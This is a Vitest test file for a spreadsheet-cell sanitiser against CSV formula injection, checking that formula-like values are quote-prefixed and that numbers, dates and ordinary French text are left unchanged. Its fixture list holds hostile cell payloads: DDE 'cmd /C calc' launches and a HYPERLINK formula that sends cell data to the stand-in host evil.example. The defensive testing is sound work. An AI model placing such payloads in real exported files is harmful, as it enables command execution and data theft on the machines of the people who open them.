import { describe, expect, it } from "vitest";
import { csvCell, csvDocument, safeCell, safeRow } from "./spreadsheet-cell";

export const HOSTILE_CELLS = [
  "-2+3+cmd|' /C calc'!A0",
  "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Cliquez\")",
  "+1+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "=1+1",
  "-1+1",
];

describe("safeCell (OWASP CSV injection)", () => {
  it("neutralises every text a spreadsheet would read as a formula", () => {
    for (const hostile of HOSTILE_CELLS) expect(safeCell(hostile)).toBe(`'${hostile}`);
  });

  it("leaves numbers, plain numeric texts, dates, booleans and ordinary text alone", () => {
    const day = new Date("2026-06-10T00:00:00Z");
    expect(safeRow([12, -3.5, true, day, null, undefined, "Équipe mobile", "-12", "-1 234,50", "12 %", "3.5", "Rue de l'Église", "+33 6 12 34 56 78"])).toEqual([
      12,
      -3.5,
      true,
      day,
      null,
      undefined,
      "Équipe mobile",
      "-12",
      "-1 234,50",
      "12 %",
      "3.5",
      "Rue de l'Église",
      "+33 6 12 34 56 78", // digits and spaces only: nothing to call
    ]);
  });

  it("quotes CSV fields after sanitising them", () => {
    expect(csvCell("-2+3+cmd|' /C calc'!A0")).toBe("'-2+3+cmd|' /C calc'!A0");
    expect(csvCell('=A1;"x"')).toBe(`"'=A1;""x"""`);
    expect(csvCell(null)).toBe("");
    expect(csvCell(-4)).toBe("-4");
    expect(csvDocument([["a", "=1"], [1, "b"]])).toBe("\uFEFFa;'=1\r\n1;b\r\n");
  });
});
